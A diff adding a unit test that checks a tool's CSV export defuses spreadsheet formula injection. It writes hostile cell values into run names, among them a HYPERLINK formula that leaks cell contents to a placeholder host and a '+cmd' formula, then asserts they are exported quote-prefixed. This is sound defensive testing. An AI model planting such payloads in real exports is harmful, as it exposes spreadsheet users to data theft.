@@ -2,6 +2,8 @@
 # Studies made by a stranger: another schema is refused before anything of it is used; in our schema values that nobody
 # wrote are shown as missing. No command crashes, hangs or takes memory out of proportion.
 
+import csv
+import io
 import json
 import os
 import random
@@ -163,6 +165,18 @@ class Values(Stranger):
         self.assert_survives()
         result = self.run_(("verdict", "--study", self.study, "--json"))
         self.assertEqual(result.status, 0, result.stderr)
+
+    def test_names_that_spreadsheets_would_run(self):
+        names = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "plain"]
+        with closing(sqlite3.connect(self.study, isolation_level=None)) as database:
+            for number, name in zip((1, 2, 3), names):
+                database.execute("UPDATE run SET name = ?, load = ? WHERE run_id = ?", (name, names[number + 2], number))
+        result = self.run_(("runs", "--study", self.study, "--csv"))
+        cells = [cell for row in csv.reader(io.StringIO(result.stdout), strict=True) for cell in row]
+        for name in names[:-1]:
+            self.assertIn("'" + name.replace("\t", "?"), [cell.replace("\t", "?") for cell in cells])
+        self.assertIn("plain", cells)
+        self.assertEqual([cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")], [])
 
     def test_numbers_too_large_to_add_up(self):
         loosely.write(self.study, ("UPDATE window SET latency_ns = ?1, end_ns = ?1, start_ns = -?1", (2 ** 63 - 1,)),
